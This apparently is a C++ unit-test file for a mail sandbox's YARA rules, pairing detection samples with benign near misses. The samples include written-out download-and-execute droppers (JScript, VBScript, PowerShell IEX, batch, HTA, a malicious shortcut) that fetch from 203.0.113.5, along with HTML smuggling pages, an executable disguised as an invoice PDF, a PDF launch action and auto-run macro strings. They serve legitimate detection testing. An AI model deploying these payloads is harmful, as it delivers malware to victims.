// The default rules in etc/rules: for each rule a sample that it must match and near misses
// that must stay clean (plain text, plain PDFs, Office documents without macros, HTML mail),
// and what the rules say about Debian's clamav-testfiles.

#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <regex>
#include <set>
#include <sstream>
#include <string>
#include <vector>

#include "sandbox/analyzers/YaraRules.h"
#include "test/sandbox/Collect.h"
#include "test/sandbox/analyzers/YaraSamples.h"

using bccsink::sandbox::VerdictKind;
using bccsink::sandbox::YaraRules;
using namespace bccsink::test;

namespace {

const YaraRules& shipped() {
  static const auto rules = YaraRules::compile(shippedRulesDir());
  return *rules;
}

std::vector<std::string> matched(const std::string& bytes) {
  return shipped().scan(bytes).rules;
}

VerdictKind kindOf(const std::string& bytes) {
  return shipped().scan(bytes).kind;
}

using Names = std::vector<std::string>;

// Deterministic bytes that do not compress: the payload of the smuggling samples.
std::string noise(std::size_t n) {
  std::string s(n, '\0');
  std::uint32_t x = 2463534242u;
  for (auto& c : s) {
    x ^= x << 13;
    x ^= x >> 17;
    x ^= x << 5;
    c = static_cast<char>(x & 0xFF);
  }
  return s;
}

// ---- samples that a rule must match ----

std::string peInPdf() {
  return "%PDF-1.4\n1 0 obj\n<< /Type /EmbeddedFile /Length 1024 >>\nstream\n" + minimalPe() +
         "\nendstream\nendobj\n%%EOF\n";
}

std::string oleMacro(const std::string& code) {
  return oleFile(wide("_VBA_PROJECT") + std::string(32, '\0') + code);
}

std::string ooxml(bool macros, const std::string& part = "word") {
  std::vector<std::pair<std::string, std::string>> members = {
      {"[Content_Types].xml",
       "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/"
       "content-types\"></Types>"},
      {part + "/document.xml",
       "<w:document><w:body><w:p>Quarterly figures</w:p></w:body>"
       "</w:document>"}};
  if (macros) members.emplace_back(part + "/vbaProject.bin", oleMacro("AutoOpen Shell"));
  return zip(members);
}

std::string oleNativeBody(const std::string& fileName) {
  return wide("\x01Ole10Native") + std::string(64, '\0') +
         std::string("\x20\x02\x00\x00\x02\x00", 6) + fileName + '\0' + "C:\\Users\\me\\" +
         fileName + '\0';
}

std::string hex(const std::string& bytes) {
  static const char* digits = "0123456789abcdef";
  std::string out;
  for (unsigned char c : bytes) {
    out += digits[c >> 4];
    out += digits[c & 15];
  }
  return out;
}

std::string rtfPackage(const std::string& fileName) {
  std::string native =
      std::string("\x01\x05\x00\x00\x02\x00\x00\x00\x08\x00\x00\x00Package\x00", 20) +
      std::string(8, '\0') + std::string("\x02\x00", 2) + fileName + '\0' + "C:\\Users\\me\\" +
      fileName + '\0';
  return "{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Times New Roman;}}\\pard Please see the "
         "attached.\\par\n"
         "{\\object\\objemb{\\*\\objclass Package}\\objw855\\objh765{\\*\\objdata " +
         hex(native) + "}}}\n";
}

const std::string kJsDropper =
    "var x = new ActiveXObject(\"MSXML2.XMLHTTP\");\r\n"
    "x.open(\"GET\", \"http://203.0.113.5/p.bin\", false); x.send();\r\n"
    "var s = new ActiveXObject(\"ADODB.Stream\"); s.Open(); s.Type = 1;\r\n"
    "s.Write(x.responseBody); s.SaveToFile(\"C:\\\\Users\\\\Public\\\\p.exe\", 2);\r\n"
    "new ActiveXObject(\"WScript.Shell\").Run(\"C:\\\\Users\\\\Public\\\\p.exe\", 0);\r\n";

std::string smugglingPage(bool msSave) {
  auto payload = base64(zip({{"Invoice_0412.iso", noise(3000)}}));
  std::string save = msSave ? "window.navigator.msSaveOrOpenBlob(blob, \"Invoice_0412.zip\");\n"
                            : "var a = document.createElement(\"a\");\n"
                              "a.href = URL.createObjectURL(blob);\n"
                              "a.setAttribute(\"download\", \"Invoice_0412.zip\");\n"
                              "document.body.appendChild(a); a.click();\n";
  return "<!DOCTYPE html>\n<html><head><title>Invoice</title></head><body>\n"
         "<p>Your document is being downloaded...</p>\n<script>\n"
         "var data = \"" +
         payload +
         "\";\n"
         "var bin = atob(data);\n"
         "var bytes = new Uint8Array(bin.length);\n"
         "for (var i = 0; i < bin.length; i++) bytes[i] = bin.charCodeAt(i);\n"
         "var blob = new Blob([bytes], {type: \"application/octet-stream\"});\n" +
         save + "</script></body></html>\n";
}

std::string dataUriExecutable() {
  return "<html><body><p>Your invoice:</p><a href=\"data:application/octet-stream;base64," +
         base64(minimalPe()) + "\" download=\"invoice.exe\">Invoice.pdf</a></body></html>\n";
}

std::string pdf(const std::string& catalogExtra, const std::string& objects = "") {
  return "%PDF-1.7\n%\xE2\xE3\xCF\xD3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R " + catalogExtra +
         " >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
         "3 0 obj\n<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>\nendobj\n"
         "4 0 obj\n<< /Length 60 >>\nstream\nBT /F1 12 Tf 72 712 Td (Learn JavaScript, Launch "
         "a career) Tj ET\nendstream\nendobj\n" +
         objects + "trailer\n<< /Root 1 0 R >>\n%%EOF\n";
}

std::string isoImage(const std::string& id) {
  std::string image(0x8800, '\0');
  image.replace(0x8000, 7, "\x01" + id + "\x01");
  return image;
}

// ---- near misses: ordinary mail content ----

const std::string kHtmlMail =
    "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><style>td{font-family:Arial}</style>"
    "</head><body><table width=\"600\"><tr><td><img src=\"cid:logo@example.com\" alt=\"logo\">"
    "</td></tr><tr><td><p>Dear customer,</p><p>Your order 4711 has shipped. Track it <a "
    "href=\"https://shop.example.com/track?id=4711\">here</a>. Download our app and run the "
    "setup to get notified.</p></td></tr></table></body></html>\r\n";

}  // namespace

TEST(YaraShippedRules, CompileWithoutWarnings) {
  EXPECT_GE(shipped().ruleCount(), 15u);
}

TEST(YaraShippedRules, EicarTestFileIsDangerousOnlyAsTheStandardFile) {
  EXPECT_EQ(matched(kEicar), Names{"EICAR_Test_File"});
  EXPECT_EQ(matched(kEicar + "\r\n"), Names{"EICAR_Test_File"});
  EXPECT_EQ(kindOf(kEicar), VerdictKind::Dangerous);
  // Quoted in a mail, or longer than the 128 bytes the standard allows: not the test file.
  EXPECT_EQ(matched("The test string is " + kEicar + "\r\n"), Names{});
  EXPECT_EQ(matched(kEicar + std::string(100, ' ')), Names{});
}

TEST(YaraShippedRules, PeExecutableIsSuspicious) {
  EXPECT_EQ(matched(minimalPe()), Names{"Executable_PE"});
  EXPECT_EQ(kindOf(minimalPe()), VerdictKind::Suspicious);
  // A DOS header that points at no PE header, and text that starts with "MZ".
  EXPECT_EQ(matched("MZ" + std::string(1022, '\0')), Names{});
  EXPECT_EQ(matched("MZ is the DOS signature, PE the Windows one.\n"), Names{});
}

TEST(YaraShippedRules, DocumentCarryingAProgramIsSuspicious) {
  EXPECT_EQ(matched(peInPdf()), Names{"Document_Embedded_PE"});
  EXPECT_EQ(matched(oleFile(std::string(512, 'x') + minimalPe())), Names{"Document_Embedded_PE"});
  // An "MZ" that heads no PE inside a document.
  EXPECT_EQ(matched(oleFile("MZ" + std::string(1022, '\0'))), Names{});
  EXPECT_EQ(matched(pdf("", "5 0 obj\n(MZ\\000\\000)\nendobj\n")), Names{});
}

TEST(YaraShippedRules, OleMacroThatRunsByItselfIsSuspicious) {
  EXPECT_EQ(matched(oleMacro("AutoOpen MsgBox \"Hello\"")), Names{"Office_OLE_AutoExec_Macro"});
  // The compressed module source (MS-OVBA) instead of the project stream.
  auto source = oleFile(std::string("\x01\x9c\xb0\x00"
                                    "Attribut\x00"
                                    "e VB_Nam\x00"
                                    "e = ",
                                    26) +
                        "\"ThisWorkbook\" Private Sub Workbook_Open()");
  EXPECT_EQ(matched(source), Names{"Office_OLE_AutoExec_Macro"});
  EXPECT_EQ(kindOf(source), VerdictKind::Suspicious);
  // A macro that needs a click, and a document that only mentions the names.
  EXPECT_EQ(matched(oleMacro("Sub Report() MsgBox \"Total\"")), Names{});
  EXPECT_EQ(matched(oleFile(wide("WordDocument") + "How AutoOpen and Shell macros attack")),
            Names{});
}

TEST(YaraShippedRules, OleMacroThatRunsByItselfAndStartsProgramsIsDangerous) {
  for (const std::string& code : {
           std::string("Document_Open\0CreateObject\0WScript.Shell\0Run", 44),
           std::string("AutoOpen URLDownloadToFileA urlmon"),
           std::string("Workbook_Open Shell \"powershell -w hidden -c iwr\""),
       }) {
    SCOPED_TRACE(code);
    // Only the dangerous rule: the suspicious one steps aside.
    EXPECT_EQ(matched(oleMacro(code)), Names{"Office_OLE_AutoExec_Macro_Dropper"});
    EXPECT_EQ(kindOf(oleMacro(code)), VerdictKind::Dangerous);
  }
}

TEST(YaraShippedRules, OoxmlWithAVbaProjectIsSuspicious) {
  EXPECT_EQ(matched(ooxml(true)), Names{"Office_OOXML_VBA_Project"});
  EXPECT_EQ(matched(ooxml(true, "xl")), Names{"Office_OOXML_VBA_Project"});
  EXPECT_EQ(kindOf(ooxml(true)), VerdictKind::Suspicious);
  EXPECT_EQ(matched(ooxml(false)), Names{});
  EXPECT_EQ(matched(ooxml(false, "xl")), Names{});
}

TEST(YaraShippedRules, OlePackageHoldingAProgramIsSuspicious) {
  EXPECT_EQ(matched(oleFile(oleNativeBody("invoice.exe"))), Names{"Office_OLE_Package_Executable"});
  EXPECT_EQ(matched(oleFile(oleNativeBody("scan.JS"))), Names{"Office_OLE_Package_Executable"});
  EXPECT_EQ(matched(oleFile(oleNativeBody("minutes.txt"))), Names{});
}

TEST(YaraShippedRules, RtfPackageHoldingAProgramIsSuspicious) {
  EXPECT_EQ(matched(rtfPackage("invoice.exe")), Names{"RTF_Package_Executable"});
  EXPECT_EQ(matched(rtfPackage("update.vbs")), Names{"RTF_Package_Executable"});
  EXPECT_EQ(matched(rtfPackage("minutes.txt")), Names{});
  EXPECT_EQ(matched("{\\rtf1\\ansi Meeting notes: run setup.exe from the share.\\par}"), Names{});
}

TEST(YaraShippedRules, ScriptThatDownloadsAndRunsIsDangerous) {
  for (const std::string& script : {
           kJsDropper,
           std::string(
               "Set h = CreateObject(\"Microsoft.XMLHTTP\")\r\nh.Open \"GET\", u, False\r\n"
               "CreateObject(\"Shell.Application\").ShellExecute f, \"\", \"\", \"open\", 0\r\n"),
           std::string(
               "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')\n"),
           std::string(
               "<html><head><HTA:APPLICATION ID=\"x\" WINDOWSTATE=\"minimize\"/>\n"
               "<script language=\"VBScript\">CreateObject(\"WScript.Shell\").Run "
               "\"powershell -c Invoke-WebRequest http://203.0.113.5/a.exe -OutFile a.exe\"\n"
               "</script></head></html>\n"),
           std::string(
               "@echo off\r\npowershell -c \"(New-Object Net.WebClient).DownloadFile("
               "'http://203.0.113.5/a.exe','%TEMP%\\a.exe')\"\r\nstart \"\" %TEMP%\\a.exe\r\n"),
           std::string(
               "cmd /c powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBj"
               "AHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA\r\n"),
       }) {
    SCOPED_TRACE(script);
    EXPECT_EQ(matched(script), Names{"Script_Download_Execute"});
  }
  EXPECT_EQ(kindOf(kJsDropper), VerdictKind::Dangerous);
}

TEST(YaraShippedRules, ScriptsThatOnlyRunOrOnlyFetchAreClean) {
  for (const std::string& text : {
           std::string(
               "Get-ChildItem C:\\Logs -Filter *.old | Remove-Item\nStart-Process notepad.exe\n"),
           std::string("powershell.exe -ExecutionPolicy Bypass -File C:\\scripts\\backup.ps1\r\n"),
           std::string("const r = new XMLHttpRequest(); r.open('GET', '/api/orders');\n"
                       "fetch('/api/me').then(x => x.json());\n"),
           std::string("Hello,\r\nplease download the report from the portal and run the macro "
                       "checker before Friday.\r\n"),
       }) {
    SCOPED_TRACE(text);
    EXPECT_EQ(matched(text), Names{});
  }
}

TEST(YaraShippedRules, ShortcutIsSuspiciousAndDangerousWhenItStartsAnInterpreter) {
  EXPECT_EQ(matched(lnkFile(wide("C:\\Users\\Public\\Documents\\report.pdf"))),
            Names{"Windows_Shortcut"});
  EXPECT_EQ(kindOf(lnkFile("")), VerdictKind::Suspicious);
  auto ps = lnkFile(wide("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe") +
                    wide("-w hidden -c iwr http://203.0.113.5/a -o a.exe; .\\a.exe"));
  EXPECT_EQ(matched(ps), Names{"Windows_Shortcut_Runs_Interpreter"});
  EXPECT_EQ(kindOf(ps), VerdictKind::Dangerous);
  EXPECT_EQ(matched(lnkFile(std::string("C:\\Windows\\System32\\cmd.exe") + '\0')),
            Names{"Windows_Shortcut_Runs_Interpreter"});
  EXPECT_EQ(matched(lnkFile(wide("C:\\Windows\\System32\\mshta.exe"))),
            Names{"Windows_Shortcut_Runs_Interpreter"});
  // 0x4C at 0 without the ShellLink class id is not a shortcut.
  EXPECT_EQ(matched(le32(0x4C) + std::string(0x48, '\0') + wide("powershell.exe")), Names{});
}

TEST(YaraShippedRules, DiskImagesAreSuspicious) {
  std::string vhd(4096, '\0');
  vhd += "conectix" + std::string(504, '\0');
  std::string fat(512, '\0');
  fat.replace(0, 11, "\xEB\x3C\x90MSDOS5.0");
  fat.replace(0x36, 8, "FAT12   ");
  fat.replace(510, 2, "\x55\xAA");
  std::string dmg = noise(4096) + "koly" + std::string(508, '\0');
  for (const auto& image : {isoImage("CD001"), isoImage("BEA01"),
                            "vhdxfile" + std::string(1024, '\0'), vhd, fat, dmg}) {
    EXPECT_EQ(matched(image), Names{"Disk_Image"});
  }
  EXPECT_EQ(kindOf(isoImage("CD001")), VerdictKind::Suspicious);
  // The identifier elsewhere than sector 16, and a short file.
  std::string elsewhere(0x9000, '\0');
  elsewhere.replace(0x100, 7,
                    "\x01"
                    "CD001\x01");
  EXPECT_EQ(matched(elsewhere), Names{});
  EXPECT_EQ(matched("CD001"), Names{});
}

TEST(YaraShippedRules, HtmlSmugglingIsDangerous) {
  EXPECT_EQ(matched(smugglingPage(false)), Names{"HTML_Smuggling"});
  EXPECT_EQ(matched(smugglingPage(true)), Names{"HTML_Smuggling"});
  EXPECT_EQ(kindOf(smugglingPage(false)), VerdictKind::Dangerous);
}

TEST(YaraShippedRules, HtmlWithAnInlineProgramIsDangerous) {
  EXPECT_EQ(matched(dataUriExecutable()), Names{"HTML_DataURI_Executable"});
  EXPECT_EQ(kindOf(dataUriExecutable()), VerdictKind::Dangerous);
}

TEST(YaraShippedRules, HtmlMailAndPagesThatSaveSmallGeneratedFilesAreClean) {
  EXPECT_EQ(matched(kHtmlMail), Names{});
  // A large inline picture is not a payload.
  auto picture = "<html><body><img src=\"data:image/png;base64," +
                 base64("\x89PNG\r\n\x1A\n" + noise(3000)) + "\"></body></html>";
  EXPECT_EQ(matched(picture), Names{});
  // An export button: a Blob built from the page's own data, no encoded payload.
  EXPECT_EQ(matched("<html><body><script>function exportCsv(rows) {\n"
                    "  var blob = new Blob([rows.join('\\n')], {type: 'text/csv'});\n"
                    "  var a = document.createElement('a');\n"
                    "  a.href = URL.createObjectURL(blob); a.download = 'report.csv'; a.click();\n"
                    "}</script></body></html>"),
            Names{});
}

TEST(YaraShippedRules, PdfWithJavaScriptOrLaunchIsSuspicious) {
  auto js =
      pdf("/OpenAction 5 0 R", "5 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\);) >>\nendobj\n");
  EXPECT_EQ(matched(js), Names{"PDF_JavaScript"});
  EXPECT_EQ(kindOf(js), VerdictKind::Suspicious);
  // /JS alone, and the header after junk.
  EXPECT_EQ(matched(pdf("", "6 0 obj\n<< /JS (this.print\\(\\)) >>\nendobj\n")),
            Names{"PDF_JavaScript"});
  EXPECT_EQ(matched(std::string(300, ' ') + pdf("/Names << /JavaScript 6 0 R >>")),
            Names{"PDF_JavaScript"});
  auto launch = pdf("/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>");
  EXPECT_EQ(matched(launch), Names{"PDF_Launch_Action"});
}

TEST(YaraShippedRules, PlainPdfIsClean) {
  // An /OpenAction that only sets the view is in most PDFs; the words are in the text.
  EXPECT_EQ(matched(pdf("/OpenAction [3 0 R /Fit] /PageMode /UseOutlines")), Names{});
  EXPECT_EQ(matched(pdf("")), Names{});
  EXPECT_EQ(matched("Plain text, nothing else.\r\n"), Names{});
  EXPECT_EQ(matched(""), Names{});
}

TEST(YaraShippedRules, EveryShippedRuleHasASampleAndMetas) {
  std::set<std::string> seen;
  for (const auto& sample :
       {kEicar, minimalPe(), peInPdf(), oleMacro("AutoOpen"), oleMacro("AutoOpen powershell"),
        ooxml(true), oleFile(oleNativeBody("a.exe")), rtfPackage("a.exe"), kJsDropper, lnkFile(""),
        lnkFile("cmd.exe"), isoImage("CD001"), smugglingPage(false), dataUriExecutable(),
        pdf("/Names << /JavaScript 6 0 R >>"), pdf("/OpenAction << /S /Launch >>")}) {
    for (const auto& name : matched(sample)) seen.insert(name);
  }
  const std::regex declaration(R"(^\s*(private\s+)?rule\s+(\w+))");
  std::set<std::string> declared;
  for (const auto& entry : std::filesystem::directory_iterator(shippedRulesDir())) {
    if (entry.path().extension() != ".yar") continue;
    auto text = readFile(entry.path().string());
    std::istringstream lines(text);
    std::string line;
    std::smatch m;
    std::vector<std::string> blocks;
    while (std::getline(lines, line)) {
      if (std::regex_search(line, m, declaration)) {
        if (m[1].matched) {
          blocks.emplace_back();  // private: no verdict of its own
          continue;
        }
        declared.insert(m[2]);
        blocks.push_back(m[2]);
      } else if (!blocks.empty() && !blocks.back().empty()) {
        blocks.back() += "\n" + line;
      }
    }
    for (const auto& block : blocks) {
      if (block.empty()) continue;
      SCOPED_TRACE(block.substr(0, block.find('\n')));
      EXPECT_TRUE(
          std::regex_search(block, std::regex(R"re(verdict = "(suspicious|dangerous)")re")));
      EXPECT_TRUE(std::regex_search(block, std::regex(R"re(description = ".{10,}")re")));
    }
  }
  EXPECT_EQ(seen, declared);
}

TEST(YaraShippedRules, WhatTheRulesSayAboutClamavTestfiles) {
  auto verdictOf = [](const std::string& name) {
    return matched(readFile(std::string(kClamavTestfiles) + "/" + name));
  };
  EXPECT_EQ(verdictOf("clam.exe"), Names{"Executable_PE"});
  EXPECT_EQ(verdictOf("clam-upx.exe"), Names{"Executable_PE"});
  // clam.exe as an OLE package object in a Word file, and in an RTF.
  EXPECT_EQ(verdictOf("clam.ole.doc"), Names{"Office_OLE_Package_Executable"});
  EXPECT_EQ(verdictOf("clam.exe.rtf"), Names{"RTF_Package_Executable"});
  // clam.exe as a PDF file attachment, stored uncompressed.
  EXPECT_EQ(verdictOf("clam.pdf"), Names{"Document_Embedded_PE"});
  // clam.exe as a data: URL link.
  EXPECT_EQ(verdictOf("clam.exe.html"), Names{"HTML_DataURI_Executable"});
  // PowerPoint compresses its embedded objects: nothing to see without unpacking, which is
  // clamd's part. Archives are clean as such: the extractor sends their members.
  EXPECT_EQ(verdictOf("clam.ppt"), Names{});
  EXPECT_EQ(verdictOf("clam.zip"), Names{});
  EXPECT_EQ(verdictOf("clam.7z"), Names{});
}
